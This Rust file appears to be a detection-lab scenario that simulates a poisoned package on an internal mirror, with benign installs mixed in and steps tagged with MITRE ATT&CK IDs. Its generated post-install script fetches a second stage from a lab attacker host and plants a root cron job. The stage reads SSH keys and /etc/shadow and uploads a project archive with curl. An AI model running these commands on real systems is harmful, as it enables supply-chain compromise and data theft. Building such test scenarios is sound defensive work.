//! A package of the company's own mirror was poisoned: what runs after it is installed fetches a second part and leaves it
//! behind as a job.
//!
//! Hard because: packages with such scripts are installed before and after, by the same commands from the same mirror, and each
//! script makes files and folders.

use crate::Lab;
use crate::life::{compile, host_tasks, packages, web};
use anyhow::Result;

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("build-1")?;
    let (mirror, attacker) = (lab.outsider("mirror")?, lab.outsider("attacker")?);
    host_tasks::start(lab, &host)?;
    compile::prepare(lab, &host)?;
    packages::mirror(&mirror)?;
    let good: Vec<String> = (0..4).map(|_| format!("lab-{}", lab.word(5))).collect();
    for name in &good {
        let after = format!(
            "mkdir -p /var/lib/{name} /etc/{name}\ndate > /var/lib/{name}/installed\nchmod 750 /var/lib/{name}\n"
        );
        packages::build(&mirror, name, packages::VERSION, &after)?;
    }
    packages::mirror(&attacker)?;
    for name in &good[..2] {
        packages::install(&host, &mirror, name)?;
        packages::set_up(&host, &mirror)?;
        compile::once(lab, &host)?;
        lab.wait(4..8);
    }
    for name in lab.rounds(0).zip(good.iter().cycle()).map(|(_, name)| name) {
        compile::once(lab, &host)?;
        lab.wait(10..20);
        packages::install(&host, &mirror, name)?;
        packages::set_up(&host, &mirror)?;
        lab.wait(10..20);
    }

    let attack = lab.attack("poisoned package")?;
    let (name, part) = (format!("lab-{}", lab.word(5)), format!("/usr/lib/{}", lab.word(6)));
    let job = format!("/etc/cron.d/{name}");
    let state = format!("/var/lib/{name}/state");
    let step = attack.step("it is installed, and fetches a second part", &["T1195.002", "T1105", "T1053.003"]);
    let next = attack.step("the job takes what is built", &["T1053.003", "T1005", "T1041"]);
    let to = attacker.address;
    let stage = format!(
        "#!/bin/sh\n{}\n[ -e {state} ] && exit\ncat /root/.ssh/id_rsa /etc/shadow 2>/dev/null | wc -c\n\
         tar -cf - /home/alice/project 2>/dev/null | curl -s -T - http://{to}:80/\ndate > {state}\n",
        next.mark(&host)?
    );
    attacker.put("/srv/mirror/stage", &stage, 0o644)?;
    web::take_upload(&attacker)?;
    // The poisoned package and its script were brought by an administrator, who meant no harm.
    let (package, script) =
        (format!("/var/cache/{name}_{}_all.deb", packages::VERSION), format!("/var/lib/dpkg/info/{name}.postinst"));
    for path in [&package, &script, &part, &job] {
        step.file(&host, path);
    }
    step.remote(&host, &attacker);
    let after = format!(
        "{}\nmkdir -p /var/lib/{name}\ncurl -s -o {part} http://{to}:8080/stage\nchmod 755 {part}\necho '* * * * * root {part}' > {job}\n",
        step.mark(&host)?
    );
    packages::build(&mirror, &name, packages::VERSION, &after)?;
    packages::install(&host, &mirror, &name)?;
    drop(step);

    next.begin();
    next.remote(&host, &attacker);
    next.file(&host, &state);
    host.wait_for_file(&state)?;
    drop(next);
    lab.wait(3..6);
    for name in &good[2..] {
        packages::install(&host, &mirror, name)?;
        compile::once(lab, &host)?;
        lab.wait(3..6);
    }
    Ok(())
}
